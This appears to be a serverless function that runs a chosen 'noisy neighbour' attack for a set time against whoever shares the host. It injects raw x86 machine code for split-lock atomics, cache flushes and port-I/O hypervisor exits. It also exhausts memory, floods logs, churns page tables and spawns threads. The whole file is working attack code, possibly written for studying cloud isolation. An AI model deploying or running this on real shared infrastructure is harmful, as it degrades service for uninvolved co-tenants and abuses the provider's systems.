"""Does its worst to whoever shares the machine: event["attack"] names it, for event["seconds"]. Replies with how often
it went round."""

import ctypes
import mmap
import os
import random
import sys
import threading
import time

PAGE = 4096
BLOCK = 1 << 20
MEMORY = 64 << 20
SYSTEM = "/usr/lib"


def machine_code(code):
    """A function of one argument (RDI) from bytes that end before the return."""
    page = mmap.mmap(-1, PAGE, prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)
    page[: len(code) + 1] = code + b"\xc3"
    pages.append(page)
    return ctypes.CFUNCTYPE(None, ctypes.c_void_p)(ctypes.addressof(ctypes.c_char.from_buffer(page)))


def many_times(code, times):
    """mov ecx, times; code; dec ecx; jnz back to the code."""
    body = code + b"\xff\xc9"
    return machine_code(b"\xb9" + times.to_bytes(4, "little") + body + b"\x0f\x85" + (-len(body) - 6).to_bytes(4, "little", signed=True))


pages = []
area = mmap.mmap(-1, MEMORY)
address = ctypes.addressof(ctypes.c_char.from_buffer(area))
increment_over_two_lines = many_times(b"\xf0\xff\x07", 10_000)  # lock inc [rdi]
flush_lines = many_times(b"\x0f\xae\x3f\x48\x83\xc7\x40", 10_000)  # clflush [rdi]; add rdi, 64
pause = many_times(b"\xf3\x90", 100_000)
ring = many_times(b"\xba\x46\x4d\x00\x00\xb8\x03\x00\x00\x00\xef", 100)  # out dx, eax: flush the log


def spin():
    for _ in range(100_000):
        pass


def split_locks():
    increment_over_two_lines(address + 62)


def flushes():
    start = random.randrange(MEMORY // BLOCK) * BLOCK
    ctypes.memset(address + start, 1, BLOCK)
    flush_lines(address + start)


def pauses():
    pause(address)


def exits():
    ring(address)


def page_tables():
    with mmap.mmap(-1, 8 << 20) as memory:
        for offset in range(0, len(memory), PAGE):
            memory[offset] = 1


def read_image():
    path = files[random.randrange(len(files))]
    with open(path, "rb") as file:
        file.read()


def dirty_memory():
    for offset in range(0, MEMORY, PAGE):
        area[offset] = (area[offset] + 1) % 256


def flood_log():
    print("x" * (BLOCK - 1))


def exhaust_memory():
    kept = []
    try:
        while True:
            kept.append(bytearray(BLOCK))
    except MemoryError:
        kept.clear()


def threads():
    ended = threading.Event()
    started = [threading.Thread(target=ended.wait) for _ in range(100)]
    for thread in started:
        thread.start()
    ended.set()
    for thread in started:
        thread.join()


files = [
    os.path.join(folder, name)
    for folder, _, names in os.walk(SYSTEM)
    for name in names
    if not os.path.islink(os.path.join(folder, name))
]


def handler(event, context):
    attack = getattr(sys.modules[__name__], event["attack"])
    end = time.monotonic() + event["seconds"]
    rounds = 0
    while time.monotonic() < end:
        attack()
        rounds += 1
    return rounds
